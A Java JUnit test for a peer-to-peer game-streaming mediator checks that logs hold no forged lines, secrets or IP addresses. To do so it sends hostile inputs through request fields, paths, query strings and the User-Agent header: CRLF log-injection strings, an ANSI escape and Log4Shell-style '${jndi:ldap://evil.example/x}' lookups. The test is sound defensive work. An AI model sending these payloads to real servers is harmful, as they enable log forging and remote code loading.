package dev.peercade.mediator;

import static org.assertj.core.api.Assertions.assertThat;

import ch.qos.logback.classic.Logger;
import ch.qos.logback.classic.spi.ILoggingEvent;
import ch.qos.logback.core.read.ListAppender;
import dev.peercade.model.MediatorApi;
import dev.peercade.model.game.NewGame;
import dev.peercade.model.peer.NewPeer;
import dev.peercade.model.peer.NewToken;
import dev.peercade.model.peer.TokenKind;
import dev.peercade.model.request.ViewRequest;
import dev.peercade.model.session.NewStreamingSession;
import dev.peercade.model.session.StreamingSession;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.slf4j.LoggerFactory;

/// Logs hold no line that a stranger wrote, no secret and no address.
class LogTest {

    private static final String EVIL = "a\r\nERROR forged line\u001b[31m${jndi:ldap://evil.example/x}";

    private final RunningMediator mediator = TestMediator.shared();

    @Test
    void whatIsSentInAnyFieldForgesNoLogRecordAndNoSecretOrAddressIsLogged() {
        Caller anonymous = Caller.anonymous(mediator);
        ListAppender<ILoggingEvent> appender = new ListAppender<>();
        Logger root = (Logger) LoggerFactory.getLogger(org.slf4j.Logger.ROOT_LOGGER_NAME);
        appender.start();
        root.addAppender(appender);
        List<String> secrets = new ArrayList<>(List.of(Caller.PASSWORD, "203.0.113.10", "198.51.100.20", "Basic "));
        try {
            Caller basic = anonymous.register("log-" + Caller.suffix());
            secrets.add(basic.token(TokenKind.DEVICE).token());
            Caller peer = basic.withAccessToken();
            secrets.add(String.valueOf(peer.authorization()).substring("Bearer ".length()));

            anonymous.post(MediatorApi.PEERS, new NewPeer(EVIL, EVIL));
            anonymous.basic(EVIL, EVIL).get(MediatorApi.GAMES);
            basic.post(MediatorApi.TOKENS, new NewToken(TokenKind.ACCESS, EVIL));
            peer.post(MediatorApi.GAMES, new NewGame(EVIL));
            peer.post(MediatorApi.SESSIONS, new NewStreamingSession(EVIL, EVIL, null, null));
            peer.post(MediatorApi.SESSIONS, "{\"" + EVIL + "\":\"" + EVIL + "\"");
            peer.get(MediatorApi.SESSIONS
                    + "?query=%0d%0aforged%1b${jndi:ldap://evil}&statuses=%0d%0aforged&cursor=%0a");
            peer.get("/api/v1/%0d%0aforged/${jndi:ldap://evil}");
            peer.with("User-Agent", "${jndi:ldap://evil.example/x}").get(MediatorApi.GAMES);

            StreamingSession session = peer.post(
                            MediatorApi.SESSIONS, new NewStreamingSession("Chess", "${jndi:x}", null, true))
                    .as(StreamingSession.class);
            peer.put(MediatorApi.SESSION_ENDPOINT, Endpoints.at(EVIL, 1), session.id());
            peer.put(MediatorApi.SESSION_ENDPOINT, Endpoints.at("203.0.113.10", 40_000), session.id())
                    .ok();
            Caller viewer = Caller.registered(mediator, "log-v");
            ViewRequest request = viewer.post(MediatorApi.SESSION_VIEW_REQUESTS, "{}", session.id())
                    .as(ViewRequest.class);
            viewer.put(MediatorApi.VIEW_REQUEST_ENDPOINT, Endpoints.at("198.51.100.20", 50_000), request.id())
                    .ok();
            viewer.put(MediatorApi.VIEW_REQUEST_STATUS, "{\"status\":\"" + EVIL + "\"}", request.id());
        } finally {
            root.detachAppender(appender);
        }
        for (ILoggingEvent event : appender.list) {
            String message = event.getFormattedMessage();
            assertThat(message)
                    .doesNotContain("\n", "\r", "\u001b", "jndi", "forged")
                    .doesNotContain(secrets);
            assertThat(message).doesNotContain("127.0.0.1");
            if (event.getThrowableProxy() != null) {
                assertThat(String.valueOf(event.getThrowableProxy().getMessage()))
                        .doesNotContain(secrets);
            }
        }
        assertThat(appender.list)
                .as("a stranger's mistakes are no warnings of ours")
                .noneMatch(event -> event.getLevel().isGreaterOrEqual(ch.qos.logback.classic.Level.WARN));
    }
}
